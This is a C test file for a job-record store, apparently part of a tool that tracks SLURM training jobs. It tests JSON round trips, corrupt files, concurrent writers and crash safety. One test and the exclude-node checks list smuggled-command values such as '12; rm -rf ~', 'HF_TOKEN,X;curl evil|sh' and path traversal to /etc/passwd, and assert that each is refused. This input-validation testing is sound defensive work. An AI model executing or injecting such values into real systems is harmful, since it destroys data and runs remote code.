/* Job records: JSON round trip, history, corrupt files, concurrent writers
 * and crashes at any moment. */
#include <math.h>
#include <criterion/criterion.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "engine/store/store.h"
#include "util/xmalloc.h"

/* A fresh store folder for this test (static: no leak to track). */
static const char *tmpdir(void)
{
	static char path[64];
	char tmpl[] = "/tmp/taotop-records-XXXXXX";
	cr_assert_not_null(mkdtemp(tmpl));
	snprintf(path, sizeof(path), "%s/jobs", tmpl);
	return path;
}

static struct record_store *open_store(const char *dir)
{
	char *err = NULL;
	struct record_store *s = store_open(dir, &err);
	cr_assert_not_null(s, "%s", err);
	return s;
}

static struct job_record *sample(struct record_store *s)
{
	char *id = store_mint_id(s);
	struct job_record *r = record_new(id);
	free(id);
	record_set(&r->cluster, "rig");
	record_set(&r->image, "/lustre/images/tao-5.5.0.sqsh");
	record_set(&r->network_arch, "classification_pyt");
	record_set(&r->action, "train");
	record_set(&r->results_dir, "/lustre/results/it's \"quoted\"");
	record_set(&r->log_dir, "/lustre/logs");
	return r;
}

Test(record, json_round_trip_keeps_every_field_and_the_history)
{
	struct record_store *s = open_store(tmpdir());
	struct job_record *r = sample(s), *back;
	char *err = NULL;

	record_set(&r->backend_ref, "12345");
	record_set(&r->retry_of, "tao-20261128-abcdef");
	record_set(&r->name, "lr-0.01");
	record_set(&r->resume_dir, "/lustre/root/tao-20261128-abcdef/results");
	record_set(&r->resume_checkpoint,
	    "/lustre/root/tao-20261128-abcdef/results/train/model_epoch_002.pth");
	record_set(&r->spec, "train:\n  optim:\n    lr: 0.01\n");
	cr_expect_eq(record_transition(r, TAO_PENDING, "PENDING", "Priority", "scheduler", 1000), 1);
	cr_expect_eq(record_transition(r, TAO_RUNNING, "RUNNING", NULL, "scheduler", 2000), 1);
	cr_expect_eq(record_transition(r, TAO_RUNNING, "RUNNING", NULL, "scheduler", 2500), 0,
	    "no change, no transition");
	cr_expect_eq(record_transition(r, TAO_RUNNING, "SUSPENDED", "SUSPENDED", "scheduler", 3000), 1,
	    "a native change alone is a transition");
	cr_assert_eq(store_create(s, r, &err), 0, "%s", err);
	cr_assert_eq(store_load(s, r->id, &back, &err), 0, "%s", err);
	char *a = record_to_json(r), *b = record_to_json(back);
	cr_expect_str_eq(a, b);
	cr_expect_eq(back->nhist, 3);
	cr_expect_str_eq(back->hist[0].message, "Priority");
	cr_expect_eq(back->hist[1].from, TAO_PENDING);
	cr_expect_eq(back->hist[1].to, TAO_RUNNING);
	cr_expect_str_eq(back->results_dir, "/lustre/results/it's \"quoted\"");
	cr_expect_str_eq(back->name, "lr-0.01");
	cr_expect_str_eq(back->resume_dir, "/lustre/root/tao-20261128-abcdef/results");
	cr_expect_str_eq(back->resume_checkpoint,
	    "/lustre/root/tao-20261128-abcdef/results/train/model_epoch_002.pth");
	cr_expect_str_eq(back->spec, "train:\n  optim:\n    lr: 0.01\n", "the staged spec kept");
	cr_expect_eq(store_create(s, r, &err), -1, "a second create of the same id");
	free(err);
	struct stat st;
	char *path = xasprintf("%s/%s.json", store_dir(s), r->id);
	cr_assert_eq(stat(path, &st), 0);
	cr_expect_eq(st.st_mode & 0777, 0600, "records are private");
	free(a), free(b), free(path);
	record_free(r), record_free(back);
	store_close(s);
}

/* Every metric's series survives the store, NaN and the thinning's state
 * with it; a record written before curves were kept loads with none. */
Test(record, curves_round_trip_and_old_records_load_without_them)
{
	struct record_store *s = open_store(tmpdir());
	struct job_record *r = sample(s), *back, *old;
	struct series_set c;
	const struct series *t;
	char *err = NULL, *a, *b, *json;
	int e;

	series_set_init(&c);
	for (e = 1; e <= 3000; e++)
		series_set_add(&c, "train_loss", e, e == 5 ? NAN : 1.0 / e, 1);
	series_set_add(&c, "val_acc_1", 1, 0.25, 1);
	record_set_curves(r, &c);
	series_set_free(&c);
	cr_assert_eq(store_create(s, r, &err), 0, "%s", err);
	cr_assert_eq(store_load(s, r->id, &back, &err), 0, "%s", err);
	a = record_to_json(r), b = record_to_json(back);
	cr_expect_str_eq(a, b);
	cr_assert_eq(back->curves.n, 2);
	t = series_set_find(&back->curves, "train_loss");
	cr_assert_not_null(t);
	cr_expect_eq(t->n, r->curves.s[0].n);
	cr_expect_leq(t->n, SERIES_MAX_POINTS + 1);
	cr_expect_eq(t->epoch[t->n - 1], 3000);
	cr_expect_float_eq(t->value[t->n - 1], 1.0 / 3000, 1e-15);
	cr_expect_eq(t->stride, 2);
	cr_expect_float_eq(series_set_find(&back->curves, "val_acc_1")->value[0], 0.25, 1e-12);
	/* Without "curves": as every record before them. */
	record_set_curves(r, NULL);
	json = record_to_json(r);
	cr_expect(strstr(json, "\"curves\"") == NULL, "%s", json);
	old = record_from_json(json, &err);
	cr_assert_not_null(old, "%s", err);
	cr_expect_eq(old->curves.n, 0);
	free(a), free(b), free(json);
	record_free(r), record_free(back), record_free(old);
	store_close(s);
}

static int touch(struct job_record *x, void *arg, char **e)
{
	(void)arg, (void)e;
	return record_transition(x, TAO_RUNNING, "RUNNING", NULL, "scheduler", time(NULL));
}

Test(record, a_corrupt_record_is_reported_skipped_and_never_overwritten)
{
	struct record_store *s = open_store(tmpdir());
	struct job_record *r = sample(s), **list;
	char *err = NULL, *warn = NULL;
	size_t n;

	cr_assert_eq(store_create(s, r, &err), 0, "%s", err);
	char *bad = xasprintf("%s/tao-20260101-badbad.json", store_dir(s));
	FILE *f = fopen(bad, "w");
	fputs("{\"id\": \"tao-20260101-badbad\", \"state\": ", f);
	fclose(f);

	cr_assert_eq(store_list(s, &list, &n, &warn), 0);
	cr_expect_eq(n, 1, "the good record is listed");
	cr_assert_not_null(warn);
	cr_expect(strstr(warn, bad) != NULL, "the warning names the file: %s", warn);
	cr_expect(strstr(warn, "corrupt") != NULL, "%s", warn);
	store_list_free(list, n);

	struct job_record *out;
	cr_expect_eq(store_load(s, "tao-20260101-badbad", &out, &err), -1);
	cr_expect(strstr(err, bad) != NULL, "%s", err);
	free(err), err = NULL;

	/* An update of it fails and leaves the bytes as they were. */
	struct stat before, after;
	stat(bad, &before);
	cr_expect_eq(store_update(s, "tao-20260101-badbad", touch, NULL, &err), -1);
	stat(bad, &after);
	cr_expect_eq(before.st_size, after.st_size);
	cr_expect_eq(before.st_mtime, after.st_mtime);
	free(err), free(warn), free(bad);
	record_free(r);
	store_close(s);
}

static int add_one(struct job_record *r, void *arg, char **err)
{
	char msg[32];
	(void)err;
	snprintf(msg, sizeof(msg), "%d-%zu", *(int *)arg, r->nhist);
	/* Alternate states so every call appends a transition. */
	return record_transition(r, r->state == TAO_RUNNING ? TAO_PENDING : TAO_RUNNING,
	    NULL, msg, "taotop", time(NULL));
}

Test(record, two_processes_updating_one_record_lose_nothing, .timeout = 60)
{
	const char *dir = tmpdir();
	struct record_store *s = open_store(dir);
	struct job_record *r = sample(s);
	char *err = NULL;
	enum { EACH = 200 };

	cr_assert_eq(store_create(s, r, &err), 0, "%s", err);
	for (int p = 0; p < 2; p++) {
		if (fork() == 0) {
			struct record_store *mine = store_open(dir, &err);
			int tag = p;
			for (int i = 0; i < EACH; i++)
				if (store_update(mine, r->id, add_one, &tag, &err) != 0)
					_exit(1);
			store_close(mine);
			_exit(0);
		}
	}
	int status, ok = 0;
	while (wait(&status) > 0)
		ok += WIFEXITED(status) && WEXITSTATUS(status) == 0;
	cr_expect_eq(ok, 2);
	struct job_record *back;
	cr_assert_eq(store_load(s, r->id, &back, &err), 0, "%s", err);
	cr_expect_eq(back->nhist, 2 * EACH, "lost %zu updates", 2 * EACH - back->nhist);
	record_free(back), record_free(r);
	store_close(s);
}

Test(record, kill_9_at_random_moments_never_leaves_a_broken_record, .timeout = 120)
{
	const char *dir = tmpdir();
	struct record_store *s = open_store(dir);
	struct job_record *r = sample(s), *back;
	char *err = NULL;
	size_t last = 0, gained = 0;
	unsigned seed = 99, window_us = 3000;

	cr_assert_eq(store_create(s, r, &err), 0, "%s", err);
	for (int k = 0; k < 1000; k++) {
		int ready[2];
		char c;
		cr_assert_eq(pipe(ready), 0);
		pid_t pid = fork();
		if (pid == 0) {
			struct record_store *mine = store_open(dir, &err);
			int tag = k;
			/* Writing from now: the kill's moment counts from here, so
			 * a slow open (a sanitizer build, a loaded machine) does not
			 * eat the window the writes should have. */
			if (write(ready[1], "", 1) != 1)
				_exit(1);
			for (;;)
				store_update(mine, r->id, add_one, &tag, &err);
		}
		close(ready[1]);
		cr_assert_eq(read(ready[0], &c, 1), 1, "writer %d did not start", k);
		close(ready[0]);
		struct timespec ts = { 0, (long)(rand_r(&seed) % window_us) * 1000 };
		nanosleep(&ts, NULL);
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		cr_assert_eq(store_load(s, r->id, &back, &err), 0, "after kill %d: %s", k, err);
		cr_assert_geq(back->nhist, last, "kill %d lost history", k);
		gained += back->nhist - last;
		last = back->nhist;
		record_free(back);
		/* The window follows the writers' speed (a sanitizer build, a
		 * loaded machine, a record that grew): about one write finished
		 * per kill, so the kills land inside writes and between them. */
		if (k % 50 == 49) {
			if (gained < 25 && window_us < 200000)
				window_us *= 2;
			else if (gained > 150 && window_us > 500)
				window_us /= 2;
			gained = 0;
		}
	}
	/* The temp files of killed writers are cleared on the next open. */
	store_close(s);
	s = open_store(dir);
	char *cmd = xasprintf("ls -A %s | grep -c tmp", dir);
	FILE *p = popen(cmd, "r");
	int left = -1;
	cr_assert_eq(fscanf(p, "%d", &left), 1);
	pclose(p);
	cr_expect_eq(left, 0, "%d temp files left behind", left);
	cr_expect_gt(last, 100, "the writers hardly wrote (%zu): the test proves little", last);
	free(cmd);
	record_free(r);
	store_close(s);
}

Test(record, a_failed_write_keeps_the_old_record)
{
	struct record_store *s = open_store(tmpdir());
	struct job_record *r = sample(s), *back;
	char *err = NULL;
	int tag = 0;

	cr_assert_eq(store_create(s, r, &err), 0, "%s", err);
	store_test_fail_before_rename(s, 1);
	cr_expect_eq(store_update(s, r->id, add_one, &tag, &err), -1);
	cr_expect(strstr(err, "the record there is unchanged") != NULL, "%s", err);
	store_test_fail_before_rename(s, 0);
	cr_assert_eq(store_load(s, r->id, &back, &err), 0, "%s", err);
	cr_expect_eq(back->nhist, 0);
	record_free(back), record_free(r);
	free(err);
	store_close(s);
}

Test(record, bad_ids_never_name_files_outside_the_store)
{
	struct record_store *s = open_store(tmpdir());
	struct job_record *out;
	char *err = NULL;
	cr_expect_eq(store_load(s, "../../etc/passwd", &out, &err), -1);
	cr_expect(strstr(err, "not a valid job id") != NULL, "%s", err);
	free(err);
	char *id = store_mint_id(s);
	cr_expect_eq(strlen(id), strlen("tao-20261129-abcdef"));
	cr_expect(strncmp(id, "tao-", 4) == 0);
	free(id);
	store_close(s);
}

Test(record, setting_a_field_to_itself_is_safe)
{
	struct job_record *r = record_new("tao-20261129-000000");
	record_set(&r->native, "RUNNING");
	record_set(&r->native, r->native);
	cr_expect_str_eq(r->native, "RUNNING");
	cr_expect_eq(record_transition(r, TAO_CANCELED, r->native, NULL, "user", 1), 1);
	cr_expect_str_eq(r->hist[0].native, "RUNNING");
	record_free(r);
}

Test(record, events_are_kept_even_without_a_state_change)
{
	struct job_record *r = record_new("tao-20261129-000001");
	record_event(r, "opened: staging", "taotop", 10);
	record_event(r, "submitted as SLURM job 7", "taotop", 11);
	cr_expect_eq(r->nhist, 2);
	cr_expect_eq(r->hist[1].from, TAO_PENDING);
	cr_expect_eq(r->hist[1].to, TAO_PENDING);
	cr_expect_str_eq(r->hist[1].message, "submitted as SLURM job 7");
	record_free(r);
}

/* The bank's rule: terminal_state never changes once set. A late or stale
 * answer (a queue read before a cancel, accounting's word for another
 * state) is refused whole; the native word of the same state may still be
 * refined, and a failure's class added once, never changed. */
Test(record, a_final_record_refuses_a_new_state_and_keeps_its_class)
{
	enum tao_state finals[] = { TAO_DONE, TAO_ERROR, TAO_CANCELED };
	enum tao_state others[] = { TAO_PENDING, TAO_RUNNING, TAO_DONE, TAO_ERROR, TAO_CANCELED,
	    TAO_UNKNOWN };
	size_t i, k;

	for (i = 0; i < 3; i++) {
		for (k = 0; k < 6; k++) {
			struct job_record *r = record_new("tao-20261205-000001");
			cr_assert_eq(record_transition(r, TAO_RUNNING, "RUNNING", NULL, "scheduler",
			    10), 1);
			cr_assert_eq(record_transition(r, finals[i], "RUNNING", "ended", "taotop", 20),
			    1);
			size_t n = r->nhist;
			int rc = record_transition(r, others[k], "PENDING", "late", "scheduler", 30);
			if (others[k] == finals[i]) {
				cr_expect_eq(rc, 1, "the same state, a new native word: refined");
				cr_expect_str_eq(r->native, "PENDING");
			} else {
				cr_expect_eq(rc, 0, "%s -> %s refused", tao_state_name(finals[i]),
				    tao_state_name(others[k]));
				cr_expect_eq(r->nhist, n, "nothing appended");
				cr_expect_str_eq(r->native, "RUNNING");
			}
			cr_expect_eq(r->state, finals[i], "the final state stands");
			record_free(r);
		}
	}
	struct job_record *r = record_new("tao-20261205-000002");
	cr_expect_eq(record_set_err_class(r, "ERR_SOMETHING"), 0, "not one of the bank's two");
	cr_expect_null(r->err_class);
	cr_expect_eq(record_set_err_class(r, RECORD_ERR_INFRA), 1);
	cr_expect_eq(record_set_err_class(r, RECORD_ERR_PROGRAM), 0, "set once, never changed");
	cr_expect_str_eq(r->err_class, "ERR_INFRA");
	char *json = record_to_json(r), *err = NULL;
	struct job_record *back = record_from_json(json, &err);
	cr_assert_not_null(back, "%s", err);
	cr_expect_str_eq(back->err_class, "ERR_INFRA", "kept in the record");
	free(json);
	record_free(back);
	record_free(r);
}

#include "engine/config/config.h"
#include "engine/track/tracker.h"

/* A record file written by hand, as someone with write access could. */
static void write_record(const char *dir, const char *id, const char *field, const char *value)
{
	char *path = xasprintf("%s/%s.json", dir, id);
	FILE *f = fopen(path, "w");
	cr_assert_not_null(f);
	fprintf(f, "{\"id\": \"%s\", \"cluster\": \"rig\", %s"
	    "\"%s\": \"%s\", \"state\": \"Running\", \"created\": \"2026-01-01T00:00:00Z\", "
	    "\"updated\": \"2026-01-01T00:00:00Z\", \"transitions\": []}\n", id,
	    strcmp(field, "log_dir") != 0 ? "\"log_dir\": \"/lustre/x/slurm-logs\", " : "", field, value);
	fclose(f);
	free(path);
}

Test(record, hostile_values_are_refused_on_load_before_any_command)
{
	const char *dir = tmpdir();
	struct record_store *s = open_store(dir);
	static const struct { const char *field, *value; } bad[] = {
		{ "backend_ref", "--user=u" },
		{ "backend_ref", "12; rm -rf ~" },
		{ "backend_ref", "-1" },
		{ "backend_ref", "" },
		{ "secrets", "HF_TOKEN,X;curl evil|sh" },
		{ "secrets", "A=B" },
		{ "retry_of", "../../etc/passwd" },
		{ "log_dir", "-rf" },
		{ "results_dir", "relative/path" },
		{ "resume_dir", "relative/path" },
		{ "resume_checkpoint", "-rf" },
		{ "err_class", "ERR_ANYTHING" },
	};
	struct cluster_cfg cl = { .name = (char *)"rig" };

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		char id[32], *err = NULL, *msg = NULL;
		struct job_record *r = NULL;
		snprintf(id, sizeof(id), "tao-20260101-bad%02zu", i);
		write_record(dir, id, bad[i].field, bad[i].value);
		cr_expect_eq(store_load(s, id, &r, &err), -1, "%s=%s loaded", bad[i].field, bad[i].value);
		cr_expect(err != NULL && strstr(err, bad[i].field) != NULL, "%s", err ? err : "");
		free(err);
		err = NULL;
		/* cancel never gets as far as a connection (NULL here): the
		 * record is refused first, and nothing else names this id. */
		if (strcmp(bad[i].field, "backend_ref") == 0) {
			cr_expect_eq(tracker_cancel(NULL, s, &cl, id, &msg, &err), -1);
			cr_expect_null(msg);
			free(err);
		}
		record_free(r);
	}
	/* The same file with a good id loads. */
	write_record(dir, "tao-20260101-good00", "backend_ref", "120_3");
	{
		struct job_record *r = NULL;
		char *err = NULL;
		cr_expect_eq(store_load(s, "tao-20260101-good00", &r, &err), 0, "%s", err ? err : "");
		record_free(r);
		free(err);
	}
	store_close(s);
}

Test(record, a_records_folder_not_private_or_not_ours_is_refused)
{
	const char *dir = tmpdir();
	struct record_store *s = open_store(dir);
	char *err = NULL, *link;
	store_close(s);

	cr_assert_eq(chmod(dir, 0777), 0);
	cr_expect_null(store_open(dir, &err));
	cr_expect(err != NULL && strstr(err, "chmod 700") != NULL, "%s", err ? err : "");
	free(err);
	err = NULL;
	cr_assert_eq(chmod(dir, 0700), 0);

	link = xasprintf("%s-link", dir);
	cr_assert_eq(symlink(dir, link), 0);
	cr_expect_null(store_open(link, &err));
	cr_expect(err != NULL && strstr(err, "not a folder") != NULL, "%s", err ? err : "");
	free(err);
	err = NULL;
	unlink(link);
	free(link);

	if (geteuid() == 0) {
		/* root: a folder of another user's. */
		cr_assert_eq(chown(dir, 65534, 65534), 0);
		cr_expect_null(store_open(dir, &err));
		cr_expect(err != NULL && strstr(err, "not to you") != NULL, "%s", err ? err : "");
		free(err);
	}
}

/* A finished job's progress survives the trip through the record's JSON. */
Test(record, progress_round_trips)
{
	struct job_record *r = record_new("tao-20261130-abcdef"), *back;
	double series[] = { 0.9, 0.5, 0.25 };
	struct record_progress p = { .epoch = 3, .max_epoch = 3, .series = series, .nseries = 3 };
	char *json, *err = NULL;

	snprintf(p.metric, sizeof(p.metric), "loss");
	record_set_progress(r, &p);
	json = record_to_json(r);
	back = record_from_json(json, &err);
	cr_assert_not_null(back, "%s", err);
	cr_assert_not_null(back->progress);
	cr_expect_eq(back->progress->epoch, 3);
	cr_expect_str_eq(back->progress->metric, "loss");
	cr_assert_eq(back->progress->nseries, 3);
	cr_expect_float_eq(back->progress->series[1], 0.5, 1e-9);
	free(json);
	record_free(r);
	record_free(back);
}

/* What SLURM gave a job survives the record's JSON; an old record has none,
 * and nonsense in it is left unknown. */
Test(record, allocation_round_trips)
{
	struct job_record *r = record_new("tao-20261130-abcdef"), *back;
	char *json, *err = NULL;

	json = record_to_json(r);
	cr_expect_null(strstr(json, "allocation"), "none until SLURM said: %s", json);
	back = record_from_json(json, &err);
	cr_assert_not_null(back, "%s", err);
	cr_expect(!back->has_alloc);
	cr_expect_eq(back->alloc.elapsed_s, -1);
	free(json);
	record_free(back);

	r->has_alloc = 1;
	snprintf(r->alloc.partition, sizeof(r->alloc.partition), "polar");
	r->alloc.nodes = 2;
	r->alloc.gpus = 16;
	r->alloc.elapsed_s = 120;
	r->alloc.limit_s = 86400;
	snprintf(r->alloc.exit_code, sizeof(r->alloc.exit_code), "0:0");
	json = record_to_json(r);
	back = record_from_json(json, &err);
	cr_assert_not_null(back, "%s", err);
	cr_expect(back->has_alloc);
	cr_expect_str_eq(back->alloc.partition, "polar");
	cr_expect_eq(back->alloc.nodes, 2);
	cr_expect_eq(back->alloc.gpus, 16);
	cr_expect_eq(back->alloc.elapsed_s, 120);
	cr_expect_eq(back->alloc.limit_s, 86400);
	cr_expect_str_eq(back->alloc.exit_code, "0:0");
	free(json);
	record_free(back);
	record_free(r);

	back = record_from_json("{\"id\": \"tao-20261130-abcdef\", \"state\": \"Done\", "
	    "\"created\": \"2026-01-01T00:00:00Z\", \"updated\": \"2026-01-01T00:00:00Z\", "
	    "\"allocation\": {\"nodes\": -4, \"gpus\": 1e300, \"elapsed_s\": \"x\", "
	    "\"time_limit_s\": -1}}", &err);
	cr_assert_not_null(back, "%s", err);
	cr_expect_eq(back->alloc.nodes, 0);
	cr_expect_eq(back->alloc.gpus, 0);
	cr_expect_eq(back->alloc.elapsed_s, -1);
	cr_expect_eq(back->alloc.limit_s, -1);
	record_free(back);
}

/* Where TAO's status file is, the spec's task folder, and TAO's final line
 * seen while SLURM ran the job survive the JSON; a NaN epoch of the series
 * is written as null (JSON has no NaN) and read back as NaN: a gap. */
Test(record, tao_fields_and_a_nan_epoch_round_trip)
{
	struct job_record *r = record_new("tao-20261130-abcdef"), *back;
	double series[] = { 0.9, NAN, 0.25 };
	struct record_progress p = { .epoch = 3, .max_epoch = 3, .series = series, .nseries = 3 };
	char *json, *err = NULL;

	record_set(&r->results_dir, "/lustre/r");
	record_set(&r->tao_results_dir, "/lustre/elsewhere");
	record_set(&r->status_path, "/lustre/r/train/status.json");
	r->tao_final = TAO_ERROR;
	record_set(&r->tao_final_message, "status.json: FAILURE: File system error: gone");
	r->tao_final_at = 1700000000;
	record_set_progress(r, &p);
	json = record_to_json(r);
	back = record_from_json(json, &err);
	cr_assert_not_null(back, "%s", err);
	cr_expect_str_eq(back->tao_results_dir, "/lustre/elsewhere");
	cr_expect_str_eq(back->status_path, "/lustre/r/train/status.json");
	cr_expect_eq(back->tao_final, TAO_ERROR);
	cr_expect_str_eq(back->tao_final_message, "status.json: FAILURE: File system error: gone");
	cr_expect_eq(back->tao_final_at, 1700000000);
	cr_assert_eq(back->progress->nseries, 3);
	cr_expect(isnan(back->progress->series[1]));
	cr_expect_float_eq(back->progress->series[2], 0.25, 1e-9);
	free(json);
	record_free(back);
	/* a status path that would go into a command is checked on load */
	record_set(&r->status_path, "relative/status.json");
	json = record_to_json(r);
	cr_expect_null(record_from_json(json, &err));
	cr_expect(err != NULL && strstr(err, "status_path") != NULL, "%s", err);
	free(err);
	free(json);
	record_free(r);
}

/* The nodes a retry excluded, each with its evidence and the record that
 * failed there, survive the JSON; a node twice is kept once; a name that
 * is no SLURM node name is refused on load (it would reach sbatch). */
Test(record, excluded_nodes_round_trip)
{
	struct job_record *r = record_new("tao-20261130-abcdef"), *back;
	char *json, *err = NULL, *list;

	cr_expect_null(record_exclude_list(r));
	json = record_to_json(r);
	cr_expect_null(strstr(json, "exclude"), "none: %s", json);
	free(json);
	cr_expect_eq(record_exclude(r, "node02", "main.err: NVRM: Xid (PCI:0000:3b:00): 79", "tao-1"), 1);
	cr_expect_eq(record_exclude(r, "node02", "again", "tao-2"), 0, "once");
	cr_expect_eq(record_exclude(r, "node-7.a", NULL, NULL), 1);
	cr_expect_eq(record_exclude(r, "x;rm -rf", NULL, NULL), 0, "not a node name");
	json = record_to_json(r);
	back = record_from_json(json, &err);
	cr_assert_not_null(back, "%s", err);
	cr_assert_eq(back->nexclude, 2);
	cr_expect_str_eq(back->exclude[0].node, "node02");
	cr_expect_str_eq(back->exclude[0].evidence, "main.err: NVRM: Xid (PCI:0000:3b:00): 79");
	cr_expect_str_eq(back->exclude[0].from, "tao-1");
	cr_expect_null(back->exclude[1].evidence);
	list = record_exclude_list(back);
	cr_expect_str_eq(list, "node02,node-7.a");
	free(list), free(json);
	record_free(back);
	record_free(r);

	back = record_from_json("{\"id\": \"tao-20261130-abcdef\", \"state\": \"Done\", "
	    "\"created\": \"2026-01-01T00:00:00Z\", \"updated\": \"2026-01-01T00:00:00Z\", "
	    "\"exclude\": [{\"node\": \"node01 --wrap=x\"}]}", &err);
	cr_expect_null(back);
	cr_expect(err != NULL && strstr(err, "exclude") != NULL, "%s", err);
	free(err);
}
